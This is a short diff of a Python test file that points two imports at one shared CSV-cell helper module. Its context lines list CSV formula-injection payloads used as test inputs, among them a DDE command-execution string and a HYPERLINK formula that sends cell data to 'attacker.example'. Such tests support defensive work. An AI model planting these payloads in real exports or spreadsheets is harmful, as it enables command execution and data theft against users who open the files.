@@ -7,8 +7,8 @@ import io
 
 import pytest
 
-from etl import csvcells as etl_cells
-from portal.core import csvcells as portal_cells
+from fedhaem_kernel import csvcells as etl_cells  # one helper serves both sides
+from fedhaem_kernel import csvcells as portal_cells
 
 FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
             '=HYPERLINK("http://attacker.example/?"&A1,"click")']
